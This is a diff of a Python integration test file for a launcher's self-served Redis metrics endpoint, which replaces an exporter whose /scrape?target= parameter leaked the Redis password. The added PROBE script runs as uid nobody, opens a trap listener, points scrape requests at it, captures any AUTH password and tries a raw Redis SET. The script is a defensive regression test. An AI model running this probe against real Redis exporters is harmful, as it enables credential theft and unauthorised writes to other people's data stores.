@@ -1,88 +1,296 @@
-"""metrics.redis_exporter: Debian's prometheus-redis-exporter beside the launcher's own redis-server.
+"""metrics.redis_exporter: the launcher's own Redis metrics endpoint (issue 24, item 1; item 11's server env).
 
-A real exporter against a real redis-server reports `redis_up 1` and Redis's memory; the password
-reaches it in the environment, not on its command line; a missing binary or an unreachable Redis is
-an error naming the fix or the address and log. Through `launcher run`: `false` starts none and lists no
-`redis` target; `true` starts it, lists it as role/kind `redis` and stops it with the run. (`auto` is
-driven by test_dashboard_prometheus.py, whose Redis panels read it.)
+The dashboards' buffer row reads Redis's memory and command rate (`redis_memory_used_bytes`,
+`redis_commands_processed_total`, …) from role/kind `redis` in prometheus_targets.json. That endpoint
+used to be Debian's prometheus-redis-exporter, which honours `GET /scrape?target=HOST:PORT`: any local
+user could point it at a listener of theirs and receive `AUTH <password>`, then read and write the
+buffer. The launcher now serves the Redis metrics itself (a thread of the launcher): INFO on the run's
+own Redis only (host, port and password fixed at start, never taken from a request), only at /metrics.
+
+The probe's chain is replayed as another account (`setpriv --reuid=65534`, nobody) against a live
+`launcher run`: the endpoint must not connect to the attacker's listener, must not return the password,
+and Redis itself refuses nobody's writes (NOAUTH). The generation server's environment holds no Redis
+password (it never uses Redis).
 """
 
 from __future__ import annotations
 
 import json
 import os
+import shutil
+import signal
+import subprocess
+import sys
+import tempfile
+import time
+import urllib.error
 import urllib.request
 
 import pytest
-
-from areal_like.buffer.redis_server import RedisServer
-from launcher import redis_exporter
-from launcher.redis_exporter import RedisExporter, RedisExporterError
+from conftest import launcher_finish, launcher_spawn
 
 pytestmark = pytest.mark.integration
 
+NOBODY = 65534
+ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+DECOY = "decoy-redis-secret-from-the-users-env"  # AREAL_LIKE_REDIS_PASSWORD / REDIS_PASSWORD in the launcher's env
 
-def test_exporter_reads_the_runs_redis_with_the_password_kept_off_its_command_line(tmp_path):
-    assert redis_exporter.installed(), "prometheus-redis-exporter is missing: run `bash scripts/setup.sh`"
-    with RedisServer(tmp_path / "redis") as redis:
-        exp = RedisExporter(redis.host, redis.port, redis.password, str(tmp_path / "exporter.log"))
+# Run as uid nobody with the system python (stdlib only): an attacker's listener on 127.0.0.1, then GETs
+# on the run's Redis metrics endpoint pointing it there; then a write to Redis with whatever was learnt.
+PROBE = r'''
+import json, socket, sys, threading, urllib.request
+endpoint, redis_host, redis_port = sys.argv[1], sys.argv[2], int(sys.argv[3])
+lsock = socket.socket(); lsock.bind(("127.0.0.1", 0)); lsock.listen(8); lsock.settimeout(0.2)
+trap = "127.0.0.1:%d" % lsock.getsockname()[1]
+got, stop = [], threading.Event()
+def listen():
+    while not stop.is_set():
         try:
-            exp.start()
-            with urllib.request.urlopen(f"http://{exp.address}/metrics", timeout=10) as r:
-                text = r.read().decode()
-            assert "redis_up 1" in text
-            assert "redis_memory_used_bytes" in text and "redis_commands_processed_total" in text
-            with open(f"/proc/{exp.pid}/cmdline", "rb") as f:
-                assert redis.password.encode() not in f.read()
-        finally:
-            exp.stop()
-        assert exp.pid is None
-
-
-def test_exporter_that_cannot_reach_redis_fails_naming_redis_and_its_log(tmp_path):
-    with RedisServer(tmp_path / "redis") as redis:
-        exp = RedisExporter(redis.host, redis.port, "wrong-password", str(tmp_path / "exporter.log"))
-        exp_error = None
+            c, _ = lsock.accept()
+        except socket.timeout:
+            continue
+        c.settimeout(2.0)
+        data = b""
         try:
-            import launcher.redis_exporter as mod
+            data = c.recv(65536)
+        except OSError:
+            pass
+        got.append(data.decode("latin-1"))
+        try:
+            c.sendall(b"-ERR nope\r\n")
+        except OSError:
+            pass
+        c.close()
+t = threading.Thread(target=listen); t.start()
+bodies = {}
+for path in ("/scrape?target=" + trap, "/scrape?target=redis://" + trap, "/metrics?target=" + trap,
+             "/metrics?target=redis://" + trap, "/metrics", "/"):
+    try:
+        with urllib.request.urlopen("http://" + endpoint + path, timeout=20) as r:
+            bodies[path] = [r.status, r.read().decode("latin-1")]
+    except urllib.error.HTTPError as e:
+        bodies[path] = [e.code, e.read().decode("latin-1")]
+    except OSError as e:
+        bodies[path] = [None, repr(e)]
+stop.set(); t.join()
+# what an attacker does next: AUTH with whatever the trap caught (nothing, we hope), then write
+learnt = []
+for data in got:
+    parts = data.split("\r\n")
+    for i, p in enumerate(parts):
+        if p.upper() == "AUTH":
+            learnt += [a for a in parts[i + 1:] if a and a[0] not in "$*"]
+s = socket.create_connection((redis_host, redis_port), timeout=5)
+f = s.makefile("rb")
+for pw in learnt:
+    s.sendall(("*2\r\n$4\r\nAUTH\r\n$%d\r\n%s\r\n" % (len(pw), pw)).encode()); f.readline()
+s.sendall(b"*3\r\n$3\r\nSET\r\n$19\r\nareal_like:injected\r\n$1\r\n1\r\n")
+write_reply = f.readline().decode("latin-1"); s.close()
+print(json.dumps({"trap_received": got, "bodies": bodies, "learnt": learnt, "write_reply": write_reply}))
+'''
 
-            old, mod.START_TIMEOUT_S = mod.START_TIMEOUT_S, 3.0
-            try:
-                exp.start()
-            except RedisExporterError as e:
-                exp_error = str(e)
-            finally:
-                mod.START_TIMEOUT_S = old
+
+def _as_nobody(*argv: str) -> subprocess.CompletedProcess:
+    setpriv = shutil.which("setpriv")
+    if setpriv is None:
+        pytest.skip("setpriv (util-linux) is not installed: no second uid to test as")
+    if os.geteuid() != 0:
+        pytest.skip("switching to uid nobody needs root")
+    return subprocess.run([setpriv, f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", *argv],
+                          capture_output=True, text=True, errors="replace", timeout=120)
+
+
+def _redis_conf(run_dir: str) -> dict[str, str]:
+    """port and requirepass of the run's redis-server, as root reads them from its 0600 config."""
+    out = {}
+    with open(os.path.join(run_dir, "redis", "redis.conf")) as f:
+        for line in f:
+            k, _, v = line.strip().partition(" ")
+            if k in ("port", "requirepass", "bind"):
+                out[k] = v
+    return out
+
+
+def _redis_target(run_dir: str) -> str:
+    with open(os.path.join(run_dir, "prometheus_targets.json")) as f:
+        targets = json.load(f)
+    (redis,) = [t for t in targets if t["labels"]["role"] == "redis"]
+    assert redis["labels"]["kind"] == "redis"
+    return redis["targets"][0]
+
+
+def _scrape(address: str) -> dict[str, float]:
+    with urllib.request.urlopen(f"http://{address}/metrics", timeout=20) as r:
+        text = r.read().decode()
+    out = {}
+    for line in text.splitlines():
+        if line and not line.startswith("#"):
+            name, _, value = line.rpartition(" ")
+            out[name] = float(value)
+    return out
+
+
+@pytest.fixture(scope="module")
+def live_run(demo_assets):
+    """A real `launcher run` of the demo that keeps training while the tests probe it (Ctrl-C at the end).
+    Its run dir sits under a 0755 base so only the run dir's own modes guard it. The launcher's
+    environment carries decoy Redis secrets, as a user's shell might."""
+    base = tempfile.mkdtemp(prefix="areal_like-open-", dir="/tmp")
+    os.chmod(base, 0o755)
+    run_dir = os.path.join(base, "run")
+    model, data = demo_assets
+    proc = launcher_spawn("run", "--config", "configs/demo.yaml", "--allocation", "embedded.d1p1t1+d1p1t1",
+                          "--run-dir", run_dir, f"model.path={model}", f"data.train_files=[{data}]",
+                          "train.total_steps=100000", env={"AREAL_LIKE_REDIS_PASSWORD": DECOY, "REDIS_PASSWORD": DECOY})
+    try:
+        metrics = os.path.join(run_dir, "metrics.jsonl")
+        deadline = time.monotonic() + 300
+        while time.monotonic() < deadline and not os.path.exists(metrics):
+            assert proc.poll() is None, proc.communicate()[0][-3000:]
+            time.sleep(0.2)
+        assert os.path.exists(metrics), "the run trained no step in 300 s"
+        yield run_dir, proc
+    finally:
+        if proc.poll() is None:
+            os.killpg(proc.pid, signal.SIGINT)
+        launcher_finish(proc, timeout=300)
+        shutil.rmtree(base, ignore_errors=True)
+
+
+def test_redis_endpoint_is_no_password_oracle_for_another_account(live_run):
+    """Item 1, the probe's chain as uid nobody: `/scrape?target=<listener>` (and `/metrics?target=…`) on
+    the run's Redis metrics endpoint connects nowhere and returns no password; Redis refuses nobody's
+    write to the buffer (NOAUTH)."""
+    run_dir, _ = live_run
+    conf = _redis_conf(run_dir)
+    password = conf["requirepass"]
+    endpoint = _redis_target(run_dir)
+    res = _as_nobody("/usr/bin/python3", "-c", PROBE, endpoint, "127.0.0.1", conf["port"])
+    assert res.returncode == 0, res.stderr[-3000:]
+    probe = json.loads(res.stdout)
+    assert probe["write_reply"].startswith("-NOAUTH"), (
+        f"uid nobody wrote to the buffer ({probe['write_reply']!r}) with the password its listener caught: "
+        f"{probe['trap_received']}")
+    assert probe["trap_received"] == [], f"the Redis metrics endpoint connected to nobody's listener: {probe['trap_received']}"
+    for path, (status, body) in probe["bodies"].items():
+        assert password not in body, f"GET {path} returned the Redis password"
+    # the endpoint still serves its metrics (query strings ignored), and nothing but /metrics
+    status, body = probe["bodies"]["/metrics"]
+    assert status == 200 and "redis_up 1" in body, body[:500]
+    assert probe["bodies"]["/"][0] == 404
+
+
+def test_redis_endpoint_serves_the_dashboards_metrics(live_run):
+    """Item 1 (b): through `launcher run`, the endpoint listed as role/kind `redis` serves what the
+    dashboard's buffer row reads, with sane values, and the commands counter grows."""
+    run_dir, _ = live_run
+    endpoint = _redis_target(run_dir)
+    first = _scrape(endpoint)
+    assert first["redis_up"] == 1
+    assert first["redis_memory_used_bytes"] > 100_000  # a redis-server holding the run's streams
+    assert first["redis_connected_clients"] >= 2  # rollout worker, learner, launcher view
+    assert first['redis_db_keys{db="db0"}'] >= 1
+    assert first["redis_aof_current_size_bytes"] > 0  # AOF on
+    n1 = first["redis_commands_processed_total"]
+    assert n1 > 0
+    second = _scrape(endpoint)
+    assert second["redis_commands_processed_total"] > n1
+
+
+def test_generation_server_environment_holds_no_redis_password(live_run):
+    """Item 11: the generation server never uses Redis, so its environment holds neither the run's Redis
+    password (AREAL_LIKE_REDIS_URL) nor the user's REDIS_* / AREAL_LIKE_REDIS_PASSWORD secrets."""
+    run_dir, _ = live_run
+    password = _redis_conf(run_dir)["requirepass"]
+    with open(os.path.join(run_dir, "pids.json")) as f:
+        pid = json.load(f)["roles"]["server0"]
+    with open(f"/proc/{pid}/environ", "rb") as f:
+        environ = f.read()
+    names = {kv.split(b"=", 1)[0].decode() for kv in environ.split(b"\0") if kv}
+    assert password.encode() not in environ, "the server's environment holds the run's Redis password"
+    assert DECOY.encode() not in environ, "the server's environment holds the user's Redis password"
+    assert not {n for n in names if "REDIS" in n}, sorted(n for n in names if "REDIS" in n)
+    assert "AREAL_LIKE_ADMIN_API_KEY" in names  # what it does need still reaches it
+
+
+def test_endpoint_reads_only_its_own_redis_and_serves_up_0_when_redis_is_down(tmp_path):
+    """The endpoint on a real redis-server: INFO's numbers under the exporter's names; `?target=` is ignored;
+    only /metrics is served; a dead Redis gives `redis_up 0` (no error, no crash), a restarted one 1 again."""
+    from areal_like.buffer.redis_server import RedisServer
+    from areal_like.metrics.redis_info import RedisMetricsEndpoint
+
+    with RedisServer(tmp_path / "redis") as srv:
+        ep = RedisMetricsEndpoint(srv.host, srv.port, srv.password).start()
+        try:
+            m = _scrape(ep.address)
+            assert m["redis_up"] == 1 and m["redis_memory_used_bytes"] > 0 and m["redis_commands_processed_total"] > 0
+            with urllib.request.urlopen(f"http://{ep.address}/metrics?target=127.0.0.1:1", timeout=20) as r:
+                assert b"redis_up 1" in r.read()
+            for path in ("/", "/scrape?target=127.0.0.1:1", "/metrics/x"):
+                with pytest.raises(urllib.error.HTTPError) as e:
+                    urllib.request.urlopen(f"http://{ep.address}{path}", timeout=20)
+                assert e.value.code == 404, path
+            srv.kill()
+            down = _scrape(ep.address)
+            assert down == {"redis_up": 0.0}, down
+            srv.restart()
+            assert _scrape(ep.address)["redis_up"] == 1
         finally:
-            exp.stop()
-    assert exp_error is not None and f"redis://{redis.host}:{redis.port}" in exp_error and "exporter.log" in exp_error
+            ep.stop()
 
 
-def test_missing_exporter_names_the_key(tmp_path, monkeypatch):
-    monkeypatch.setattr(redis_exporter.shutil, "which", lambda name: None)
-    with pytest.raises(RedisExporterError, match="metrics.redis_exporter=false"):
-        RedisExporter("127.0.0.1", 1, "x", str(tmp_path / "log")).start()
-
-
-def test_launcher_run_redis_exporter_off_and_on(tmp_path, run_launcher):
+def test_launcher_run_redis_metrics_off_and_auto(tmp_path, run_launcher):
+    """`metrics.redis_exporter=false` (users' configs have it) serves none and lists no `redis` target;
+    `auto` (older configs) is the same as true: served, listed as role/kind `redis`, gone with the run."""
     rc, out = run_launcher(tmp_path / "off", "train.total_steps=2", "metrics.redis_exporter=false")
     assert rc == 0, out[-3000:]
     targets = json.load(open(tmp_path / "off" / "prometheus_targets.json"))
     assert "redis" not in {t["labels"]["role"] for t in targets}
     assert {t["labels"]["kind"] for t in targets} == {"server", "learner", "rollout"}
-    assert all(t["labels"]["experiment"] == "demo" and t["labels"]["run"] == "off" for t in targets)
-    assert "prometheus-redis-exporter" not in out
-    assert not (tmp_path / "off.targets.json").exists()  # the file_sd copy is removed at the end
+    assert "Redis metrics at" not in out
 
     sd = tmp_path / "file_sd"  # metrics.file_sd_dir: where Prometheus's file discovery looks
-    rc, out = run_launcher(tmp_path / "on", "train.total_steps=2", "metrics.redis_exporter=true",
+    rc, out = run_launcher(tmp_path / "on", "train.total_steps=2", "metrics.redis_exporter=auto",
                            f"metrics.file_sd_dir={sd}")
     assert rc == 0, out[-3000:]
     assert sd.is_dir() and list(sd.iterdir()) == []  # on.targets.json was written there, then removed
-    targets = json.load(open(tmp_path / "on" / "prometheus_targets.json"))
-    (redis,) = [t for t in targets if t["labels"]["role"] == "redis"]
-    assert redis["labels"]["kind"] == "redis"
+    address = _redis_target(str(tmp_path / "on"))
+    assert f"Redis metrics at http://{address}/metrics" in out
     pids = json.load(open(tmp_path / "on" / "pids.json"))
-    assert "redis_exporter" in pids["roles"]
-    with pytest.raises(ProcessLookupError):  # stopped with the run
-        os.kill(pids["roles"]["redis_exporter"], 0)
+    assert "redis_exporter" not in pids["roles"]  # no process of its own: a thread of the launcher
+    with pytest.raises(OSError):  # it ended with the run
+        urllib.request.urlopen(f"http://{address}/metrics", timeout=10)
+
+
+def test_ray_generation_server_environment_holds_no_redis_password(tmp_path, demo_assets):
+    """Item 11 under `--backend ray` (a local cluster the launcher starts, whose nodes inherit the user's
+    environment): the server's process gets neither the run's Redis password nor the node's REDIS_*
+    secrets; the Redis metrics endpoint is served on the driver's node."""
+    pytest.importorskip("ray")
+    model, data = demo_assets
+    run_dir = tmp_path / "run"
+    env = {k: v for k, v in os.environ.items() if k != "RAY_ADDRESS"}
+    env |= {"RAY_ENABLE_WINDOWS_OR_OSX_CLUSTER": "0", "AREAL_LIKE_REDIS_PASSWORD": DECOY, "REDIS_PASSWORD": DECOY}
+    proc = subprocess.Popen([sys.executable, "-m", "launcher", "run", "--config", "configs/demo.yaml", "--backend", "ray",
+                             "--run-dir", str(run_dir), f"model.path={model}", f"data.train_files=[{data}]",
+                             "train.total_steps=100000"], cwd=ROOT, env=env, stdout=subprocess.PIPE,
+                            stderr=subprocess.STDOUT, text=True, start_new_session=True)
+    try:
+        deadline = time.monotonic() + 300
+        while time.monotonic() < deadline and not (run_dir / "metrics.jsonl").exists():
+            assert proc.poll() is None, proc.communicate()[0][-3000:]
+            time.sleep(0.2)
+        assert (run_dir / "metrics.jsonl").exists(), "the run trained no step in 300 s"
+        password = _redis_conf(str(run_dir))["requirepass"]
+        pid = json.loads((run_dir / "pids.json").read_text())["roles"]["server0"]
+        with open(f"/proc/{pid}/environ", "rb") as f:
+            environ = f.read()
+        names = {kv.split(b"=", 1)[0].decode() for kv in environ.split(b"\0") if kv}
+        assert password.encode() not in environ and DECOY.encode() not in environ, \
+            sorted(n for n in names if "REDIS" in n)
+        assert "AREAL_LIKE_ADMIN_API_KEY" in names
+        assert _scrape(_redis_target(str(run_dir)))["redis_up"] == 1
+    finally:
+        if proc.poll() is None:
+            os.killpg(proc.pid, signal.SIGINT)
+        launcher_finish(proc, timeout=300)
